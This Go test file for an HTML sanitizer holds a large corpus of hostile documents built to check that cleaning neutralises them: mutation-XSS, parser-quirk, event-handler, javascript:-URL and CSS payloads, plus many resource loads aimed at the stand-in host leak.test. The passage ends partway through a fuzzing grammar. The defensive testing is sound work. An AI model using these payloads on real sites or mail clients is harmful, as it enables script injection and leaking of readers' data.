package html

import (
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"assay/scan"
	"assay/scan/html/internal/chromium"
)

// families returns hostile documents by what they try, written against this filter.
func families() map[string][]string {
	return map[string][]string{
		"mutation": {
			`<form><div></form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
			`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
			`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
			`<table><td><table><svg><desc><td><style><a title="</style><img src onerror=alert(1)>"></style>`,
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
			`<p id="<!--"><title>--><img src=x onerror=alert(1)></title>`,
			`<title><a title="</title><img src=x onerror=alert(1)>"></title>`,
			`<style><p title="</style><img src=x onerror=alert(1)>"></style>`,
			`<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
			`<textarea><p title="</textarea><svg/onload=alert(1)>"></textarea>`,
			`<noembed><p title="</noembed><svg/onload=alert(1)>"></noembed>`,
			`<noframes><p title="</noframes><svg/onload=alert(1)>"></noframes>`,
			`<iframe><p title="</iframe><svg/onload=alert(1)>"></iframe>`,
			`<select><style></select><img src onerror=alert(1)></style>`,
			`<select><noscript></select><img src=x onerror=alert(1)></noscript>`,
			`<table><caption><svg><title><table><caption></caption><img src onerror=alert(1)>`,
			`<a href=x><table><a href=y><td><a title="</a><img src onerror=alert(1)>">z`,
			`<b><i><table><b><p><a href=x><table></b><style></i></a><img src onerror=alert(1)></style>`,
			`<dialog open><form method=dialog><button formmethod=post>x</button></form></dialog>`,
			`<button><a href=x><button><form action=//leak.test/f>x`,
			`<ruby><rtc><rt><svg><foreignObject><math><mi><style></mi><img src onerror=alert(1)>`,
			`<li><ul></li><svg><p><style><!--</style><img src onerror=alert(1)>-->`,
			`<option><style><option></style></option><img src="x` + "`" + `onerror=alert(1)">`,
			`<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;`,
			`<image src=x onerror=alert(1)><image href=http://leak.test/i.png>`,
			`<a name=x><svg><a><p></a></svg><form id=1></form><input form=1 formaction=javascript:alert(1) type=submit>`,
			`<plaintext><img src=x onerror=alert(1)></plaintext>`,
			`<p><plaintext></p><script>alert(1)</script>`,
			`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
			`<pre>` + "\n\n" + `<listing>&lt;svg onload=alert(1)></listing></pre>`,
			`<frameset><noframes></frameset><img src onerror=alert(1)></noframes>`,
			`<template><template shadowrootmode=open><img src onerror=alert(1)></template></template>`,
			`<div><template shadowrootmode=open><style>@import "http://leak.test/s.css"</style><img src=x onerror=alert(1)><slot></slot></template>x</div>`,
			`<div><template shadowrootmode=closed><form action=javascript:alert(1)><button>x</template></div>`,
			`<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>`,
			`<selectedcontent><img src=x onerror=alert(1)></selectedcontent>`,
			strings.Repeat("<div>", 520) + `<svg><style><img src=x onerror=alert(1)>`,
			strings.Repeat("<b>", 513) + `<table>` + `<style><!--</style><img src=x onerror=alert(1)>-->`,
			strings.Repeat("<p><font>", 300) + `<img src=x onerror=alert(1)>`,
			strings.Repeat(`<a href=x><table><tr><td>`, 120) + `<img src=x onerror=alert(1)>`,
		},
		"syntax": {
			`<img/src=x/onerror=alert(1)>`, `<img src=x` + "\x0c" + `onerror=alert(1)>`, `<img src=x` + "\x0b" + `onerror=alert(1)>`, `<img """><script>alert(1)</script>">`,
			`<img src='x'"onerror=alert(1)>`, `<img src=x onerror =alert(1)>`, `<img src=x onerror` + "\x00" + `=alert(1)>`, `<img` + "\x00" + ` src=x onerror=alert(1)>`,
			`<<img src=x onerror=alert(1)>`, `<img src="x" title=">" onerror="alert(1)">`, `<img src=x =">" onerror=alert(1)>`, `<img src=x ="onerror=alert(1)//">`,
			`<a href="x" a="b"'onclick=alert(1)>x</a>`, `<p title='a' title=b onclick=alert(1) onclick=2>`, `<p style=x style="x:expression(alert(1))">`,
			`<img src=x` + "`" + ` onerror=alert(1)>`, `<img src=` + "`x` onerror=alert(1)`" + `>`, `</p onclick=alert(1)>x`, `</br onclick=alert(1)>`, `<br/ onclick=alert(1)>`,
			`<img src="http://leak.test/?`, `<p title="`, `<a href='http://leak.test/`, `<style>a{background:url(http://leak.test/`, `<title>x`, `<!-- x`, `<!doctype`, `<img src=x onerror=alert(1)`,
			`<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<?php echo "><img src=x onerror=alert(1)>"?>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<![CDATA[>]]<img src=x onerror=alert(1)>]]>`,
			`<!ENTITY % x "y"><img src=x onerror=alert(1)>`, `<!ELEMENT img ANY><!ATTLIST img onerror CDATA "alert(1)"><img src=x>`, `<!-><img src=x onerror=alert(1)>-->`, `<!--><img src=x onerror=alert(1)>-->`,
			`<!---><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)>-->`, `<!-- -- ><img src=x onerror=alert(1)>-->`, `<!--->-->`, `<!-- <!-- --><img src=x onerror=alert(1)> -->`, `<!--x--!` + "\n" + `><img src=x onerror=alert(1)>-->`,
			`<%<img src=x onerror=alert(1)>%>`, `<//img src=x onerror=alert(1)>`, `</!-- ><img src=x onerror=alert(1)>`, `</ script><script>alert(1)</ script></script>`, `<script ` + strings.Repeat("a ", 5000) + `>alert(1)</script>`,
			`<img ` + strings.Repeat("x", 70000) + ` src=x onerror=alert(1)>`, `<img ` + func() string {
				var b strings.Builder
				for i := range 300 {
					fmt.Fprintf(&b, "data-a%d=1 ", i)
				}
				return b.String()
			}() + `src=x onerror=alert(1)>`,
			"\xef\xbb\xbf\xef\xbb\xbf<script>alert(1)</script>", "<scr\u0131pt>alert(1)</script>", "<\u212amg src=x onerror=alert(1)>", "<img src=x \u017fnerror=alert(1) onerror\u00a0=alert(1)>", "<\x80script>alert(1)</script>",
			`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<html:script>alert(1)</html:script>`, `<svg:svg onload=alert(1)>`, `<v:vmlframe src="http://leak.test/x.vml#y" xmlns:v="urn:schemas-microsoft-com:vml"/>`,
			`<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"/><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=alert(1)>">`,
			`<xml id=x><a>&lt;img src=x onerror=alert(1)></a></xml><label dataformatas="html" datasrc="#x" datafld="a"></label>`, `<o:p onclick=alert(1)>x</o:p>`, `<st1:place onmouseover=alert(1)>x</st1:place>`,
		},
		"interactive": {
			`<button popovertarget=p popovertargetaction=show>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>`, `<div popover=auto ontoggle=alert(1) id=q>x</div>`, `<button command=show-modal commandfor=d>x</button><dialog id=d onclose=alert(1)>x</dialog>`,
			`<details open ontoggle=alert(1)>x</details>`, `<search><form action=//leak.test/s><input name=q></form></search>`, `<input type=image src=http://leak.test/i formaction=javascript:alert(1)>`, `<isindex type=image src=http://leak.test/j action=javascript:alert(1)>`,
			`<keygen autofocus onfocus=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<a tabindex=0 autofocus onfocus=alert(1)>x</a>`, `<p contenteditable autofocus onfocus=alert(1)>x`, `<button form=f formaction=//leak.test/x>y</button><form id=f></form>`,
			`<marquee onstart=alert(1)>x</marquee>`, `<video onloadstart=alert(1) src=x poster=http://leak.test/p></video>`, `<audio autoplay src=http://leak.test/a onerror=alert(1)>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<object data=javascript:alert(1) type=text/html>`,
			`<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>`, `<portal src=http://leak.test/p>`, `<fencedframe src=http://leak.test/f>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<iframe src="data:text/html,x"></iframe>`, `<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`,
			`<meta http-equiv=refresh content="0;url=data:text/html,x">`, `<meta http-equiv=" refresh" content="0;url=http://leak.test/r">`, `<meta http-equiv="re&#102;resh" content="0;http://leak.test/r2">`, `<meta http-equiv=set-cookie content=a=b>`, `<meta http-equiv=content-security-policy content="img-src *">`, `<meta http-equiv=origin-trial content=x>`,
			`<meta http-equiv=x-dns-prefetch-control content=on>`, `<meta http-equiv="delegate-ch" content="sec-ch-ua http://leak.test">`, `<meta name=referrer content=unsafe-url>`, `<meta http-equiv=default-style content=x>`, `<base href=http://leak.test/ target=_top><img src=y>`,
			`<math href=javascript:alert(1)>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
			`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`, `<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><discard onbegin=alert(1)>`, `<svg><script href=data:,alert(1) />`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`, `<svg><image href=http://leak.test/si.svg /></svg>`, `<svg><feImage href=http://leak.test/fi /></svg>`,
			`<applet code=x codebase=http://leak.test/>`, `<bgsound src=http://leak.test/b>`, `<layer src=http://leak.test/l>`, `<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>`, `<body onpageshow=alert(1) onscrollend=alert(2) background=javascript:alert(3)>`, `<p>x<body onload=alert(1)>`, `<html onclick=alert(1)><html manifest=http://leak.test/m>`,
			`<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x`, `<p style="transition:color 1s" ontransitionrun=alert(1)>`,
		},
		"address": {
			`<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript&colon;alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`, `<a href="javascript&#58;alert(1)">x</a>`, `<a href="java&NewLine;script:alert(1)">x</a>`, `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
			"<a href=\"\u2028javascript:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"java\u00adscript:alert(1)\">x</a>", `<a href="vbscript:x">x</a>`, `<a href="mhtml:http://leak.test/x.mht!y">x</a>`, `<a href="ms-msdt:/id x">x</a>`, `<a href="search-ms:query=x&crumb=location:\\leak.test\a">x</a>`, `<a href="ms-word:ofe|u|http://leak.test/x.dotm">x</a>`,
			`<a href="file:///c:/x">x</a>`, `<a href="\\leak.test\x">x</a>`, `<a href="///\leak.test/x">x</a>`, `<a href="view-source:javascript:alert(1)">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`, `<a href="jar:http://leak.test/x!/y">x</a>`, `<a href="blob:http://leak.test/x">x</a>`, `<a href="data:text/html,x">x</a>`, `<a href="about:blank">x</a>`, `<a href="intent://x#Intent;end">x</a>`,
			`<a href=x ping=http://leak.test/p attributionsrc=http://leak.test/q>x</a>`, `<img attributionsrc=http://leak.test/at src=cid:x>`, `<a href="http://a.test" target=_top rel=opener onclick=alert(1)>x</a>`, `<area href=javascript:alert(1) shape=default>`, `<map name=m><area href="java` + "\n" + `script:alert(1)"></map><img usemap=#m src=cid:x>`,
			`<img src="//leak.test/a">`, `<img src="\\leak.test\b">`, `<img src="/\leak.test/c">`, `<img src="http:leak.test/d">`, `<img src="http:\\leak.test\e">`, "<img src=\"ht\ntp://leak.test/f\">", `<img src=" http://leak.test/g">`, `<img src="&#x68;ttp://leak.test/h">`, `<img src="HTTP://leak.test/i">`, `<img src=x srcset="http://leak.test/j 2x,x 1x">`, `<img srcset="data:image/png,x,http://leak.test/k">`,
			`<img srcset="data:image/png,x ,http://leak.test/k2 1x">`, `<img srcset=" , http://leak.test/l">`, `<picture><source srcset=http://leak.test/m><img></picture>`, `<picture><source srcset="//leak.test/n"><img src=cid:a></picture>`, `<img lowsrc=http://leak.test/o dynsrc=http://leak.test/p longdesc=http://leak.test/q>`, `<table background=http://leak.test/r><td background="//leak.test/s">x</table>`, `<body background=//leak.test/t>`,
			`<link rel=stylesheet href=http://leak.test/u>`, `<link rel="icon" href=http://leak.test/v>`, `<link rel=preload as=image href=http://leak.test/w imagesrcset="http://leak.test/x 1x" imagesizes=1>`, `<link rel=dns-prefetch href=//leak.test>`, `<link rel="preconnect" href=//leak.test>`, `<link rel=prefetch href=//leak.test/y>`, `<link rel=modulepreload href=//leak.test/z>`, `<link rel=prerender href=//leak.test/A>`,
			`<link rel=manifest href=//leak.test/B>`, `<link rel="alternate stylesheet" href=//leak.test/C>`, `<link rel="stylesheet&#32;" href="data:text/css,@import'http://leak.test/D'">`, `<link rel=expect href=#x blocking=render>`, `<link rel=apple-touch-icon href=//leak.test/E>`, `<link rel=compression-dictionary href=//leak.test/F>`, `<link rev=stylesheet href=//leak.test/G>`, `<link rel=import href=//leak.test/H>`, `<link rel=mask-icon href=//leak.test/I>`,
			`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`, `<img src="cid:x" onerror=alert(1)>`, `<img src="cid:javascript:alert(1)">`, `<img src="data:image/png;base64,x,http://leak.test/J">`, `<img src="feed:http://leak.test/K">`, `<img src="ftp://leak.test/L">`, `<img src=#http://leak.test/M>`, `<img src="?http://leak.test/N">`, `<img src="blob:http://leak.test/x">`, `<input type=image src=//leak.test/O>`,
			`<q cite=javascript:alert(1)>x</q>`, `<blockquote cite="http://leak.test/P">x</blockquote>`, `<p data-src=http://leak.test/Q data-bind="html:alert(1)" x-on:click=alert(1) @click=alert(1) :src=alert(1) v-html=alert(1)>x`, `<td background="java` + "\t" + `script:alert(1)">`, `<img src="x:x" onerror=alert(1) fetchpriority=high loading=eager>`, `<img crossorigin src=//leak.test/R referrerpolicy=unsafe-url>`,
			`<!--[if mso]><v:fill src="http://leak.test/S" type=tile /><![endif]-->`, `<v:fill src="http://leak.test/T">`, `<v:imagedata src="//leak.test/U" o:href="http://leak.test/V">`, `<p o:href="http://leak.test/W" v:src="http://leak.test/X">x`, `<img o:href="cid:x" src="\\leak.test\smb\y.png">`, `<table background=file://leak.test/x>`,
		},
		"css": {
			`<p style="background:url(http://leak.test/1)">`, `<p style="background:\75rl(http://leak.test/2)">`, `<p style="background:u\72 l(http://leak.test/3)">`, `<p style="background:URL(&quot;http://leak.test/4&quot;)">`, `<p style="background:url(/*x*/http://leak.test/5)">`, `<p style="background:/**/url(http://leak.test/6)">`, `<p style="background:url(//leak.test/7">`, `<p style='background:url("http://leak.test/8'>`,
			`<p style="background-image:image-set('http://leak.test/9' 1x)">`, `<p style="background-image:-webkit-image-set(url(http://leak.test/10) 1x)">`, `<p style="background-image:-webkit-cross-fade(url(http://leak.test/11),url(http://leak.test/12),50%)">`, `<p style="background:cross-fade(url(http://leak.test/13) 5%,red)">`, `<p style="--x:url(http://leak.test/14);background:var(--x)">`, `<p style="--x:http\3a//leak.test/15;background:url(var(--x))">`, `<p style="--x:'http://leak.test/16';background:image-set(var(--x) 1x)">`, `<p style="--x:image-set('http://leak.test/17' 1x);background:var(--x)">`,
			`<p style="--x: &quot;http://leak.test/18&quot; 1x;background:-webkit-image-set(var(--x))">`, `<p style="background:image-set(env(x,'http://leak.test/19') 1x)">`, `<p data-u=http://leak.test/20 style="background:image-set(attr(data-u) 1x)">`, `<p data-u=http://leak.test/21 style="background:image-set(attr(data-u type(&lt;string>)) 1x)">`, `<p style="background:image-set(if(else:'http://leak.test/22') 1x)">`, `<p style="cursor:url(http://leak.test/23),auto">`, `<p style="list-style:url(http://leak.test/24)">`, `<p style="content:url(http://leak.test/25)">`, `<p style="mask:url(http://leak.test/26#x);clip-path:url(http://leak.test/27#y);filter:url(http://leak.test/28#z)">`,
			`<p style="border-image:url(http://leak.test/29) 1;shape-outside:url(http://leak.test/30);offset-path:url(http://leak.test/31)">`, `<style>@import "http://leak.test/32";</style>`, `<style>@im\70ort url(http://leak.test/33);</style>`, `<style>/*x*/@import/**/'http://leak.test/34' layer(x) supports(display:block) screen;</style>`, `<style><!--@import "http://leak.test/35";--></style>`, `<style>@import url("http://leak.test/36` + "\n" + `");</style>`, `<style>@charset "x";@import "//leak.test/37"</style>`, `<style>@namespace url(http://leak.test/38);@font-face{font-family:x;src:url(http://leak.test/39)}p{font-family:x}</style><p>x`,
			`<style>@font-face{font-family:y;src:local(x),url("http://leak.test/40") format("woff2")}*{font-family:y}</style><p>y`, `<style>@font-face{font-family:z;src:src("http://leak.test/41")}*{font-family:z}</style><p>z`, `<style>a:visited{background:url(http://leak.test/42)}a:link{background:url(http://leak.test/43)}</style><a href=x>y</a>`, `<style>input[value^=a]{background:url(http://leak.test/44)}p{background:url(http://leak.test/45)}</style><p>x`, `<style>@media screen{p{background:url(http://leak.test/46)}}@supports (display:block){p{cursor:url(http://leak.test/47),auto}}@container (width>0){p{background:url(http://leak.test/48)}}@layer x{p{content:url(http://leak.test/49)}}</style><p>x`,
			`<style>p{a:b;{background:url(http://leak.test/50)}}p{&{background:url(http://leak.test/51)}}p{color:red;& b{background:url(http://leak.test/52)}}</style><p>x<b>y`, `<style>@property --u{syntax:"<url>";inherits:true;initial-value:url(http://leak.test/53)}p{background:var(--u)}</style><p>x`, `<style>@property --i{syntax:"<image>";inherits:true;initial-value:url("http://leak.test/54")}p{background:var(--i)}</style><p>x`, `<style>@counter-style c{system:cyclic;symbols:url(http://leak.test/55)}li{list-style:c}</style><li>x`, `<style>@view-transition{navigation:auto}@page{background:url(http://leak.test/56)}</style>`, `<style>p{background:url(http://leak.test/57` + "\n" + `)}</style><p>x`,
			`<style>p{background:url( "http://leak.test/58" )}p{background:url('http://leak.test/59'x)}</style><p>x`, `<style>p{background:url("a\` + "\n" + `") , url(http://leak.test/60)}</style><p>x`, `<style>p{x:"` + "\n" + `;background:url(http://leak.test/61)}</style><p>x`, `<style>p{x:'\';background:url(http://leak.test/62)'}q{y:'}</style><p>x`, `<style>/*</style><p style="background:url(http://leak.test/63)">*/</style>`, `<style>p{background:u` + `\` + "\n" + `rl(http://leak.test/64)}</style><p>x`, `<style>p{background:url\(http://leak.test/65)}</style><p>x`, `<style>p{background:\55\52\4c(http://leak.test/66)}</style><p>x`,
			`<style>p{background:url(\68 ttp\3a \2f \2f leak.test/67)}</style><p>x`, `<style>p{background:url(h\ttp://leak.test/68)}</style><p>x`, "<style>p{background:url(\ufeffhttp://leak.test/69)}</style><p>x", "<style>p{background:url(\x01http://leak.test/70)}</style><p>x", "<style>p{background:\u0001url('\u0001http://leak.test/71')}</style><p>x", `<style>p{background:url('ht\` + "\n" + `tp://leak.test/72')}</style><p>x`, `<style>p{background:url(cid:x),url(http:leak.test/73)}</style><p>x`, `<style>p{background:url(//leak.test/74)}</style><p>x`, `<style>p{background:url(\\leak.test/75)}</style><p>x`, `<style>p{background:url('\\\\leak.test\\76')}</style><p>x`, `<style>p{background:url(/\leak.test/77)}</style><p>x`,
			`<style>p{width:expression(alert(1));width:exp/**/ression(alert(1));width:\65xpression(alert(1))}</style><p>x`, `<style>p{behavior:url(http://leak.test/78.htc);-moz-binding:url(http://leak.test/79.xml#x);-ms-behavior:url(#default#time2)}</style><p>x`, `<style>p{background:paint(x),element(#x),-moz-element(#y),-webkit-canvas(z)}</style><p>x`, `<style>p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://leak.test/80')}</style><p>x`, `<style>p{background:image("http://leak.test/81")}</style><p>x`, `<style>p{background:-webkit-gradient(linear,0 0,0 0,from(red)),url(http://leak.test/82)}</style><p>x`,
			`<style>p{background:image-set(linear-gradient(red,red) 1x, "http://leak.test/83" 2x)}</style><p>x`, `<style>p{background:image-set("http://leak.test/84" type("image/png"))}</style><p>x`, `<style>p::before{content:image-set("http://leak.test/85" 1x)}p::after{content:url(http://leak.test/86)/"x"}</style><p>x`, `<style>:root{--a:ur;--b:l(http://leak.test/87)}p{background:var(--a)var(--b)}</style><p>x`, `<style>@function --f(){result:url(http://leak.test/88)}p{background:--f()}</style><p>x`, `<style>@function --g(){result:"http://leak.test/89"}p{background:image-set(--g() 1x)}</style><p>x`, `<style>@scope (p){:scope{background:url(http://leak.test/90)}}@starting-style{p{background:url(http://leak.test/91)}}</style><p>x`,
			`<style media="x">p{}</style><style>@import url(//leak.test/92) ;</style>`, `<style type="text/css;x">p{background:url(http://leak.test/93)}</style><p>x`, `<style type=text/javascript>alert(1)</style>`, `<style>p{background:url("</style><img src=x onerror=alert(1)>")}</style>`, `<p style="x:url('javascript:alert(1)');background:url(javascript:alert(1))">`, `<p style='font-family:"&#34;;background:url(http://leak.test/94);"'>x`, `<p style="font-family:&apos;;background:url(http://leak.test/95)&apos;">x`, `<p style=background:url(http://leak.test/96)>x`, `<p style="}*{background:url(http://leak.test/97)">x`, `<p style="background:url(&#x68;ttp://leak.test/98)">x`, `<p style="background&colon;url&lpar;http://leak.test/99&rpar;">x`, `<p style="background:url(http:&sol;&sol;leak.test/100)">x`,
			`<p style="src:url(http://leak.test/101);background:src('http://leak.test/102');x:src(var(--q))">x`, `<p style="mask-image:-webkit-image-set('http://leak.test/103' 1x);-webkit-mask-box-image:url(http://leak.test/104)">x`, `<p style="-webkit-border-image:url(http://leak.test/105) 1;-webkit-mask:url(http://leak.test/106)">x`, `<style>@media print{@import "http://leak.test/107";}p{background:url(http://leak.test/108)}</style><p>x`, `<style>@import\ "http://leak.test/109";@IMPORT"http://leak.test/110";@\000049mport "http://leak.test/111"</style>`,
			`<style>@import url(http://leak.test/112</style>`, `<style>p{background:url(http://leak.test/113</style><p>x`, `<style>p{--y:{background:url(http://leak.test/114)};background:var(--y)}</style><p>x`, `<style>p{background:url(http://leak.test/115)url(http://leak.test/116)}p{background:red url(http://leak.test/117)}</style><p>x`, `<style>p{background:url(x) , url("http://leak.test/118"` + "\n" + `}</style><p>x`, `<style>p{color:attr(x type(<image>),url(http://leak.test/119));background:attr(title type(*))}</style><p title="url(http://leak.test/120)">x`, `<p title="url(http://leak.test/121)" style="background:attr(title type(&lt;url>))">x`, `<p title="http://leak.test/122" style="background:url(attr(title));background:image-set(attr(title raw-string) 1x)">x`,
			`<p title="http://leak.test/123" style="--t:attr(title);background:image-set(var(--t) 1x)">x`, `<p title="http://leak.test/124" style="--t:attr(title raw-string);background-image:-webkit-image-set(var(--t) 1x)">x`, `<style>p{--i:image-set(attr(title) 1x);background:var(--i)}</style><p title=http://leak.test/125>x`, `<style>p{--i:image-set(var(--t) 1x)}p{--t:attr(title);background:var(--i)}</style><p title=http://leak.test/126>x`, `<style>p{background:image-set(string(attr(title)) 1x)}</style><p title=http://leak.test/127>x`, `<style>@function --h(--u){result:image-set(var(--u) 1x)}p{background:--h("http://leak.test/128")}</style><p>x`, `<style>p{background:if(style(--a:b):red;else:url(http://leak.test/129))}</style><p>x`,
			`<style>p{background:ident("u" "rl")("http://leak.test/130")}</style><p>x`, `<style>p{anchor-name:--x;background:inherit(--u)}div{--u:url(http://leak.test/131)}</style><div><p>x`, `<style>p{background:random-item(--x,url(http://leak.test/132))}</style><p>x`, `<style>p{background:light-dark(url(http://leak.test/133),url(http://leak.test/134))}</style><p>x`, `<style>p{background:image(ltr "http://leak.test/135",red)}</style><p>x`, `<style>p{background:stripes(red),url(http://leak.test/136 referrerpolicy(x))}</style><p>x`, `<style>p{background:url("http://leak.test/137" crossorigin(anonymous) integrity(""))}</style><p>x`,
		},
		"conditional": {
			`<!--[if mso]><script>alert(1)</script><![endif]-->`, `<!--[if mso]><img src=http://leak.test/c1 onerror=alert(1)><![endif]-->`, `<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->`, `<![if !mso]><img src=x onerror=alert(1)><![endif]>`, `<!--[if gte mso 9]><xml><o:x><script>alert(1)</script></o:x></xml><![endif]-->`, `<!--[if mso]>--><script>alert(1)</script><!--<![endif]-->`, `<!--[if mso]><!-- --><script>alert(1)</script><!-- <![endif]-->`,
			`<!--[if mso]><!--[if ie]><script>alert(1)</script><![endif]--><![endif]-->`, `<!--[if mso]><style><!--</style><img src=x onerror=alert(1)><![endif]-->`, `<!--[if mso]><v:rect href="javascript:alert(1)"><v:fill src="\\leak.test\x"/></v:rect><![endif]-->`, `<!--[if mso]><p title="<![endif]--><img src=x onerror=alert(1)>"><![endif]-->`, `<!--[if mso]><![endif]--!><img src=x onerror=alert(1)>-->`, `<!--[if mso]><base href="http://leak.test/"><meta http-equiv=refresh content="0;url=http://leak.test/"><![endif]-->`,
			`<!--[if mso]><object classid="clsid:x"><param name=x></object><iframe src=http://leak.test/c2></iframe><![endif]-->`, `<!--[if mso]><a href="search-ms:x">y</a><v:shape style="behavior:url(x.htc)" onclick=alert(1) /><![endif]-->`, `<!--[if mso><script>alert(1)</script>-->`, `<!--[if mso]>x<![endif]--x><script>alert(1)</script>-->`, `<!-- [if mso]><script>alert(1)</script><![endif] -->`, `<!--[if mso]<img src=x onerror=alert(1)>]><![endif]-->`, `<![if mso]<img src=x onerror=alert(1)>]>`, `<![endif]--><img src=x onerror=alert(1)>`,
			`<!--[if mso]><textarea><![endif]--><img src=x onerror=alert(1)><!--[if mso]></textarea><![endif]-->`, `<!--[if mso]><style><![endif]--><b><!--[if mso]></style><script>alert(1)</script><![endif]-->`, `<!--[if mso]><noscript><xml><o:PixelsPerInch onclick=alert(1)>96</o:PixelsPerInch></xml></noscript><![endif]-->`, `<!--[if mso]><v:image src="http://leak.test/c3" /><v:background fill=t><v:fill type=frame src="http://leak.test/c4"/></v:background><![endif]-->`,
			`<comment><img src=x onerror=alert(1)></comment>`, `<!--[if mso]><?import namespace=t implementation="#default#time2"?><t:set onbegin=alert(1)><![endif]-->`,
		},
	}
}

// familyCases returns the documents of families, each in several frames of context.
func familyCases() []hostileCase {
	var cases []hostileCase
	for name, docs := range families() {
		for i, doc := range docs {
			for j, around := range []string{"%s", "<!DOCTYPE html><html><head>%s</head><body>x</body></html>", "<table><tr>%s</table>", "<style>/*</style>%s<!-- */ -->", "<a href=x>%s</a>", "<p title='a\"b'>%s"} {
				cases = append(cases, hostileCase{name: fmt.Sprintf("%s %d in %d", name, i, j), src: []byte(strings.Replace(around, "%s", doc, 1)), charset: "utf-8"})
			}
		}
	}
	return cases
}

func TestFamiliesAreMadeSafe(t *testing.T) {
	for _, c := range familyCases() {
		for _, level := range []scan.Level{scan.Active, scan.Remote} {
			mustBeSafe(t, c.name, Clean(c.src, c.charset, level, Options{}), c.charset, level)
		}
	}
}

// TestChromiumFamilies shows the families after cleaning, each document by itself or, with ASSAY_CHROMIUM_ALL=1, in every
// context.
func TestChromiumFamilies(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser (-short)")
	}
	cases := familyCases()
	if os.Getenv("ASSAY_CHROMIUM_ALL") == "" {
		alone := cases[:0]
		for _, c := range cases {
			if strings.HasSuffix(c.name, " in 0") {
				alone = append(alone, c)
			}
		}
		cases = alone
	}
	t.Logf("%d documents", len(cases))
	mustDoNothing(t, startBrowser(t), cases, scan.Remote, scan.Active)
}

// A grammar makes documents octet by octet from the states of the tokenizer: where a state ends is left to chance.
type grammar struct{ *rand.Rand }

func (g grammar) of(list ...string) string { return list[g.IntN(len(list))] }

func (g grammar) many(n int, make func() string) string {
	var b strings.Builder
	for range g.IntN(n + 1) {
		b.WriteString(make())
	}
	return b.String()
}

func (g grammar) blank() string {
	return g.of(" ", " ", " ", "\n", "\t", "\f", "\r\n", "/", " / ", "\x00", "\x0b", "")
}

func (g grammar) name() string {
	n := g.of("a", "b", "p", "div", "table", "td", "tr", "caption", "img", "image", "style", "title", "script", "svg", "math", "mtext", "mglyph", "annotation-xml", "foreignObject", "desc",
		"select", "option", "selectedcontent", "button", "template", "noscript", "noframes", "noembed", "xmp", "plaintext", "textarea", "iframe", "frameset", "body", "html", "head", "meta", "link", "base", "form", "input", "font", "nobr",
		"li", "dd", "ruby", "rt", "details", "summary", "dialog", "o:p", "v:fill", "marquee", "object", "pre", "listing", "picture", "source", "video", "use", "animate", "colgroup", "col", "tbody", "br", "hr", "search")
	switch g.IntN(14) {
	case 0:
		return strings.ToUpper(n)
	case 1:
		return n + g.of("\x00", "\xff", "-x", ":x", "\u212a", "/", "\"")
	case 2:
		i := g.IntN(len(n))
		return n[:i] + g.of("\x00", "\t", "\u0131", "\x1b(B") + n[i:]
	}
	return n
}

func (g grammar) address() string {
	u := g.of("http://leak.test/g", "//leak.test/g", `\\leak.test\g`, `/\leak.test/g`, "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http:leak.test/g", "vbscript:x", "cid:x", "x.png")
	u += strconv.Itoa(g.IntN(100000))
	switch g.IntN(6) {
	case 0:
		i := g.IntN(len(u))
		return u[:i] + g.of("\t", "\n", "&Tab;", "&#10;", "\x00", "\u00ad", "&#x0;") + u[i:]
	case 1:
		i := g.IntN(len(u))
		return fmt.Sprintf("%s&#%d%s%s", u[:i], u[i], g.of(";", "", ";", "x"), u[i+1:])
	case 2:
		return g.of(" ", "\x01", "&#1;", "\ufeff", "&nbsp;") + u
	}
	return u
}

func (g grammar) css() string {
	u := func() string {
		return g.of("url", "u\\72l", "URL", "\\75 rl", "image-set", "-webkit-image-set", "src", "cross-fade", "var", "attr", "url ", "u/**/rl", "image", "env", "if", "--f", "expression", "light-dark") + "(" +
